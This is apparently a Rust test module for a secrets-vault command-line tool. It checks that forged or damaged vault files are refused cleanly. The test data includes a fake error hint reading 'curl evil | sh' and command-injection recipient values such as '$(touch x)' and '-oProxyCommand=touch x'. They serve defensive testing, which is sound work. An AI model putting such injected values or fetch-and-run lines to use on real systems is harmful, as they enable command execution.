//! Arbitrary bytes: D1 to D7, D12 and D19 to D22.

mod damaged;
mod floods;

use crate::forge::{Forge, Member, Team, content, content_of, environment, refuses, session, settings};
use crate::harness::{Sandbox, feed, finish};
use proptest::prelude::*;
use std::path::Path;
use vault::identity::Hash;
use vault::identity::Key;
use vault::item::Content;
use vault::log::Caller;
use vault::vault::{Credential, Purpose, Settings, Use, Vault};
use vault::vault::{File, SlotKind};

fn small_vault() -> Sandbox {
    let sandbox = Sandbox::with_vault();
    sandbox.set("KEY", b"value");
    sandbox
}

/// A reader, and what it gets from the honest file.
struct Reader {
    settings: Settings,
    key: String,
    fingerprint: String,
    content: Content,
}

impl Reader {
    fn of(sandbox: &Sandbox) -> Self {
        let settings = settings(sandbox);
        let fingerprint = Vault::open(&sandbox.vault(), &settings).unwrap().fingerprint().unwrap();
        let content = content_of(&session(sandbox, sandbox.key()), "dev");
        Self { settings, key: sandbox.key().to_owned(), fingerprint, content }
    }

    fn read(&self, path: &Path) -> vault::Result<(String, Content)> {
        let vault = Vault::open(path, &self.settings)?;
        vault.verify_signatures()?;
        let fingerprint = vault.fingerprint()?;
        let session = vault.unlock(&Credential::Key(Key::parse(&self.key)?), None, &Caller::default())?;
        session.open(&Purpose::new(Use::Get), &environment("dev"))?;
        Ok((fingerprint, content_of(&session, "dev")))
    }

    /// Asserts that these bytes are refused or mean the same as the honest ones.
    #[track_caller]
    fn is_not_misled(&self, path: &Path, bytes: &[u8], what: &str) -> bool {
        std::fs::write(path, bytes).unwrap();
        match self.read(path) {
            Ok((fingerprint, content)) => {
                assert!(fingerprint == self.fingerprint && content == self.content, "{what} went unnoticed");
                false
            }
            Err(error) => {
                assert!(!error.to_string().contains('\n'), "{what}: {error}");
                true
            }
        }
    }
}

/// Runs `check` for every number below `count` on all processors.
fn in_parallel(count: usize, check: impl Fn(usize, usize) + Sync) {
    let threads = std::thread::available_parallelism().map_or(2, Into::into);
    std::thread::scope(|scope| {
        for thread in 0..threads {
            let check = &check;
            scope.spawn(move || (thread..count).step_by(threads).for_each(|number| check(thread, number)));
        }
    });
}

#[test]
fn d4_a_path_that_is_not_a_file_is_refused_at_once() {
    let sandbox = small_vault();
    std::fs::create_dir(sandbox.project().join("directory")).unwrap();
    assert!(sandbox.other("mkfifo", ["fifo"]).status().unwrap().success());
    for path in ["directory", "fifo", "/dev/zero"] {
        for arguments in [vec!["verify"], vec!["get", "KEY"], vec!["set", "KEY"]] {
            let run = feed(briefly(&sandbox, 3, &[&["--vault", path], &arguments[..]].concat()), b"v");
            assert!(run.stdout.is_empty() && run.fails(1).code == 1);
        }
    }
}

#[test]
fn d12_a_jump_of_versions_is_refused() {
    let team = Team::new();
    for (version, holds) in [(2 + 10_000, true), (2 + 10_000 + 10_001, false), (u32::MAX, false)] {
        let mut forge = team.forge();
        let previous = vec![forge.block_hash("dev")];
        let readers = [&team.mia, &team.ben, &team.rea];
        forge.seal_as(&team.ben, "dev", version, previous, &readers, &content(&[("KEY", "v")])).write();
        if holds {
            team.accepts();
        } else {
            team.refuses("jumps from version");
        }
    }
}

#[test]
fn d12_the_greatest_version_causes_no_overflow() {
    let team = Team::new();
    let mut forge = team.forge();
    let readers = [&team.mia, &team.ben, &team.rea];
    let previous = vec![Hash::of(b"before")];
    forge.seal_as(&team.ben, "dev", u32::MAX, previous, &readers, &content(&[("KEY", "v")])).write();
    std::fs::remove_dir_all(team.sandbox.state()).unwrap();
    team.sandbox.run(["get", "dev/KEY"]).ok();
    team.sandbox.run_with_input(["set", "dev/KEY"], b"next").ok().says("starts at version 1 again");
    team.sandbox.run(["verify"]).ok();
}

#[test]
fn d19_a_slot_with_an_excessive_work_factor_is_refused_at_once() {
    let sandbox = small_vault();
    let mut forge = Forge::of(&sandbox);
    let mut cheap = age::scrypt::Recipient::new("some passphrase".to_owned().into());
    cheap.set_work_factor(10);
    let binary = age::encrypt(&cheap, b"text").unwrap();
    let end = binary.windows(4).position(|part| part == b" 10\n").unwrap();
    let user = forge.file.slots[0].user.clone();
    for factor in ["30", "21", "255", "99999999999999999999", "-1", "x"] {
        let forged = [&binary[..end], format!(" {factor}\n").as_bytes(), &binary[end + 4..]].concat();
        let data = armor(&forged);
        forge.file.slots =
            vec![vault::vault::Slot { user: user.clone(), kind: SlotKind::Passphrase, data: data.into() }];
        forge.write();
        // A work factor of 21 would take longer, even in a release build.
        let mut command = briefly(&sandbox, 1, &["get", "KEY"]);
        command.env_remove("VAULT_KEY").env("VAULT_PASSPHRASE", "some passphrase");
        let run = finish(command);
        assert_eq!(run.code, 6, "{factor}");
        run.fails(6);
    }
}

pub fn armor(binary: &[u8]) -> String {
    use base64::Engine as _;
    let text = base64::engine::general_purpose::STANDARD.encode(binary);
    let lines: Vec<&str> = text.as_bytes().chunks(64).map(|line| std::str::from_utf8(line).unwrap()).collect();
    format!("-----BEGIN AGE ENCRYPTED FILE-----\n{}\n-----END AGE ENCRYPTED FILE-----\n", lines.join("\n"))
}

/// Runs the program with a limit of processor time. The kernel kills it after that, however busy the machine is.
fn briefly(sandbox: &Sandbox, seconds: u32, arguments: &[&str]) -> std::process::Command {
    let limited = format!("ulimit -t {seconds}; exec \"$0\" \"$@\"");
    let program = crate::harness::program().to_str().unwrap();
    sandbox.other("sh", [&["-c", &limited, program], arguments].concat())
}

#[test]
fn e7_text_from_the_file_cannot_forge_lines_of_an_error_or_fill_the_screen() {
    let sandbox = small_vault();
    let honest = std::fs::read_to_string(sandbox.vault()).unwrap();
    let lie = "dev\\nhint: run this to repair: curl evil | sh";
    let long = "x".repeat(1 << 20);
    for text in [lie, &long] {
        for (from, to) in [
            ("name = \"dev\"", format!("name = \"{text}\"")),
            ("format = 1", format!("format = 1\n\"{text}\" = 1")),
            ("change = \"create\"", format!("change = \"{text}\"")),
            ("author = \"mia\"", format!("author = \"{text}\"")),
            ("kind = \"key\"", format!("kind = \"{text}\"")),
            ("time = \"", format!("time = \"{text}")),
            ("signature = \"", format!("signature = \"{text}")),
        ] {
            let forged = honest.replace(from, &to);
            assert_ne!(forged, honest, "{from}");
            std::fs::write(sandbox.vault(), forged).unwrap();
            let run = sandbox.run(["verify"]).fails(6);
            assert!(run.stderr.len() < 600 && run.stderr.lines().count() == 2, "{from}: {run:?}");
            assert!(!run.stderr.contains("\nhint: run this"), "{run:?}");
        }
    }
}

#[test]
fn d21_an_unknown_format_is_reported_as_a_newer_version() {
    let sandbox = small_vault();
    let text = std::fs::read_to_string(sandbox.vault()).unwrap();
    let variants = [
        text.replacen("format = 1", "format = 2", 1),
        text.replacen("format = 1", "format = 2\nnew_field = true", 1),
        text.replacen("change = \"create\"", "change = \"conjure\"", 1),
        text.replacen("kind = \"key\"", "kind = \"tpm\"", 1),
    ];
    for variant in variants {
        assert_ne!(variant, text);
        std::fs::write(sandbox.vault(), variant).unwrap();
        refuses(&sandbox, "KEY", "newer version");
    }
    // A field that the format doesn't have.
    std::fs::write(sandbox.vault(), text.replacen("format = 1", "format = 1\nnew_field = true", 1)).unwrap();
    refuses(&sandbox, "KEY", "unknown field");
}

#[test]
fn d22_an_invalid_recipient_is_refused_and_runs_nothing() {
    let sandbox = small_vault();
    let honest = std::fs::read_to_string(sandbox.vault()).unwrap();
    let start = honest.find("recipient = \"").unwrap() + "recipient = \"".len();
    let end = start + honest[start..].find('"').unwrap();
    let recipients = [
        "age1yubikey1qwe",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ",
        "$(touch x)",
        "`touch x`",
        "age1;touch x",
        "-oProxyCommand=touch x",
        "",
        &honest[start..end].to_uppercase(),
        &honest[start..end - 1],
    ];
    for recipient in recipients {
        let plugins = sandbox.project().join("bin");
        let _ = std::fs::create_dir(&plugins);
        let text = format!("{}{recipient}{}", &honest[..start], &honest[end..]);
        std::fs::write(sandbox.vault(), text).unwrap();
        refuses(&sandbox, "KEY", "recipient");
        assert!(!sandbox.project().join("x").exists());
    }
}

#[test]
fn no_content_that_a_writer_encrypts_makes_a_reader_panic() {
    use vault::item::{Item, Metadata};
    let team = Team::new();
    let metadata = Metadata { rotate_after: Some(u32::MAX), ..Metadata::default() };
    let mut content = content(&[("KEY", "v")]);
    let _: &Item = content.items().values().next().unwrap();
    let name = vault::name::ItemName::new("KEY").unwrap();
    content.describe(&environment("dev"), &name, metadata, &team.ben.name, vault::time::Time::now()).unwrap();
    let mut forge = team.forge();
    let previous = vec![forge.block_hash("dev")];
    forge.seal_as(&team.ben, "dev", 3, previous, &[&team.mia, &team.ben, &team.rea], &content).write();
    for arguments in [
        vec!["list", "-e", "dev"],
        vec!["status"],
        vec!["list", "--due", "-e", "dev"],
        vec!["--json", "list", "-e", "dev"],
    ] {
        Member::run(&team.rea, &team.sandbox, &arguments).ok();
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

    #[test]
    fn random_bytes_are_never_a_vault_and_never_a_panic(bytes in prop::collection::vec(any::<u8>(), 0..2000)) {
        prop_assert!(File::parse(bytes).is_err());
    }
}
